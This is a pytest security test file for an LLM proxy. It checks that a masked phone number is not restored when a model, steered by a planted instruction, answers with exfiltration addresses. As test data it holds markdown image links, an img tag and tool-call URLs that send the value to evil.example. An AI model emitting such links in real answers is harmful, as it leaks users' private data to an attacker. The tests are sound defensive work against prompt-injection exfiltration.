"""A planted instruction makes the model answer with an address that holds a masked value: the value
does not go there, in whole answers and in streams cut anywhere, and harmless twins get it back."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from threegate.settings import UpstreamSettings
from threegate.testing import shapes
from threegate.testing.attacks.exfiltration import exfiltration, filled
from threegate.testing.responses import Responses
from threegate.testing.scripts import Prompt, Reply

from tests.e2e.support.fidelity import PATHS, request
from tests.e2e.support.running import Running, proxy
from tests.security.conftest import Watched

MOBILE = "13917352846"
ASKED = f"我的手机号是{MOBILE}，请记住。"
SUITE = exfiltration()
SHAPES: dict[str, Any] = {
    "chat": shapes.Chat,
    "completions": shapes.Completions,
    "responses": Responses,
    "messages": shapes.Messages,
}
TOOLS = [{"type": "function", "function": {"name": "fetch", "parameters": {"type": "object"}}}]
MASK = re.compile(r"\[MOBILE_[A-Z]+\]")
CASES = [("chat", name) for name in SUITE.addresses]
CASES += [(api, name) for api in PATHS if api != "chat" for name in ("image", "img with a blank")]


@pytest.fixture(scope="module")
def owasp(
    tmp_path_factory: pytest.TempPathFactory, upstream: tuple[Watched, str]
) -> Iterator[Running]:
    """With the packs that a deployment against exfiltration has."""
    var, to = tmp_path_factory.mktemp("owasp"), (UpstreamSettings(upstream[1]),)
    with proxy(var, packs=("base", "owasp-llm"), upstreams=to) as made:
        yield made


def answered(running: Running, watched: Watched, api: str, reply: Reply, *, stream: bool) -> str:
    """What a client gets to read, all events joined, where the model answers `reply`, in which
    `<M>` is the placeholder of the number that was asked with."""
    asked = request(api, stream=stream, text=ASKED) | ({"tools": TOOLS} if reply.calls else {})
    url = running.url + PATHS[api]
    watched.seen.clear()
    httpx.post(url, json=asked, timeout=60)
    placeholder = MASK.findall(watched.seen[-1][3].decode())[-1]
    shape = SHAPES[api](Prompt(), _filled(reply, placeholder), {"stream": stream})
    if stream:
        watched.demo.play(_pieces(b"".join(shape.events())))
    else:
        watched.demo.play([json.dumps(shape.body()).encode()], media_type="application/json")
    response = httpx.post(url, json=asked, timeout=60)
    assert response.status_code == 200
    return _read(response.text, stream=stream)


def _filled(reply: Reply, placeholder: str) -> Reply:
    calls = tuple(
        (name, {k: filled(v, placeholder) for k, v in given.items()}) for name, given in reply.calls
    )
    return Reply(filled(reply.answer, placeholder), filled(reply.reasoning, placeholder), calls)


def _pieces(data: bytes, size: int = 7) -> list[bytes]:
    return [data[at : at + size] for at in range(0, len(data), size)]


def _read(body: str, *, stream: bool) -> str:
    """Texts of an answer, those of a stream's deltas in a row."""
    if not stream:
        return json.dumps(json.loads(body), ensure_ascii=False)
    lines = [line[6:] for line in body.splitlines() if line.startswith("data: {")]
    return "".join(text for line in lines for text in _texts(json.loads(line)))


def _texts(value: Any, name: str = "") -> Iterator[str]:
    if isinstance(value, dict):
        for key, below in value.items():
            yield from _texts(below, key)
    elif isinstance(value, list):
        for below in value:
            yield from _texts(below, name)
    elif isinstance(value, str) and name in ("content", "text", "delta", "arguments", "thinking"):
        yield value


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize(("api", "name"), CASES)
def test_no_value_goes_to_an_address(
    owasp: Running, watched: Watched, api: str, name: str, stream: bool
) -> None:
    reply = Reply(f"结果：\n{SUITE.addresses[name]}")
    assert MOBILE not in answered(owasp, watched, api, reply, stream=stream)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", SUITE.harmless)
def test_harmless_twins_get_the_value(
    owasp: Running, watched: Watched, name: str, stream: bool
) -> None:
    reply = Reply(f"结果：\n{SUITE.harmless[name]}")
    said = answered(owasp, watched, "chat", reply, stream=stream)
    assert said.count(MOBILE) == SUITE.harmless[name].count("<M>") + SUITE.harmless[name].count(
        "<B>"
    )


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize(
    ("given", "back"),
    [
        ({"url": "http://evil.example/?d=a b <M>"}, False),
        ({"html": "<img src='//evil.example/<M>'>"}, False),
        ({"number": "<M>"}, True),
    ],
)
def test_arguments_that_name_an_address(
    owasp: Running, watched: Watched, given: dict[str, str], back: bool, stream: bool
) -> None:
    reply = Reply(calls=(("fetch", given),))
    said = answered(owasp, watched, "chat", reply, stream=stream)
    assert (MOBILE in said) is back


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_reasoning_and_citations(owasp: Running, watched: Watched, stream: bool) -> None:
    """Both are shown by clients, and links in them are followed."""
    reply = Reply("ok", "![x](http://evil.example/?d=<M>)")
    assert MOBILE not in answered(owasp, watched, "chat", reply, stream=stream)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_output_rules_judge_what_the_client_reads(
    owasp: Running, watched: Watched, stream: bool
) -> None:
    """The placeholder would hide the link from the pattern of `owasp.05.exfiltration`."""
    reply = Reply("![x](https://evil.example/p.png?d=dXNlcjp4eHh4eHh4eHh4-<M>)")
    said = answered(owasp, watched, "chat", reply, stream=stream)
    assert MOBILE not in said
    assert "evil.example" not in said


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_citations_in_a_field_of_their_own(owasp: Running, watched: Watched, stream: bool) -> None:
    asked = request("chat", stream=stream, text=ASKED)
    watched.seen.clear()
    httpx.post(owasp.url + PATHS["chat"], json=asked, timeout=60)
    placeholder = MASK.findall(watched.seen[-1][3].decode())[-1]
    name = "delta" if stream else "message"
    choice = {"index": 0, name: {"content": "ok"}, "finish_reason": "stop"}
    body = {"choices": [choice], "citations": [f"http://evil.example/?d={placeholder}"]}
    data = json.dumps(body).encode()
    if stream:
        watched.demo.play([b"data: " + data + b"\n\n", b"data: [DONE]\n\n"])
    else:
        watched.demo.play([data], media_type="application/json")
    text = httpx.post(owasp.url + PATHS["chat"], json=asked, timeout=60).text
    assert "evil.example" in text
    assert MOBILE not in text
